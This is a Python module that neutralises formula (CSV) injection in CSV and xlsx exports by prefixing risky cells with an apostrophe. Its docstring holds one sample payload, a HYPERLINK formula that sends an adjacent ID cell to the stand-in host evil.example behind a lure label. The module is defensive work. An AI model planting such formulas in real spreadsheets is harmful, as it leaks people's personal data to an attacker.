"""Cells a spreadsheet opens as data, never as a formula: the one place every CSV and xlsx export passes through.

A traveller may be named ``=HYPERLINK("http://evil.example/?d="&C2,"点击领取补贴")``; opened in Excel or WPS, a
cell starting with ``=``, ``+``, ``-``, ``@`` (or a tab or carriage return before one) runs as a formula next to
a column of ID numbers. Such text gets a leading apostrophe, which spreadsheets read as "this is text"
(OWASP's advice for CSV injection); numbers stay numbers.
"""

from __future__ import annotations

import csv
import io
from collections.abc import Iterable
from typing import IO, Any

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r", "\n")


def safe_cell(value: Any) -> Any:
    """``value`` as an export writes it: text a spreadsheet would read as a formula prefixed with ``'``."""
    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
        return "'" + value
    return value


def safe_row(values: Iterable[Any]) -> list[Any]:
    return [safe_cell(v) for v in values]


class SafeCsvWriter:
    """``csv.writer`` whose every cell passes ``safe_cell``."""

    def __init__(self, handle: IO[str]) -> None:
        self._writer = csv.writer(handle)

    def writerow(self, values: Iterable[Any]) -> None:
        self._writer.writerow(safe_row(values))


def table_csv(rows: Iterable[dict[str, Any]], columns: list[tuple[str, str]]) -> bytes:
    """``rows`` as CSV under the ``columns``' labels (key, label); UTF-8 with a BOM, so that Excel opens the
    Chinese intact."""
    buffer = io.StringIO()
    writer = SafeCsvWriter(buffer)
    writer.writerow([label for _, label in columns])
    for row in rows:
        writer.writerow(["" if row.get(key) is None else row[key] for key, _ in columns])
    return buffer.getvalue().encode("utf-8-sig")


def table_xlsx(rows: Iterable[dict[str, Any]], columns: list[tuple[str, str]], title: str) -> bytes:
    """``rows`` as one xlsx sheet named ``title`` under the ``columns``' labels."""
    import openpyxl  # the planner's CSV paths do not need it loaded

    book = openpyxl.Workbook()
    sheet = book.active
    sheet.title = title[:31]
    sheet.append(safe_row(label for _, label in columns))
    for row in rows:
        sheet.append(safe_row("" if row.get(key) is None else row[key] for key, _ in columns))
    buffer = io.BytesIO()
    book.save(buffer)
    return buffer.getvalue()
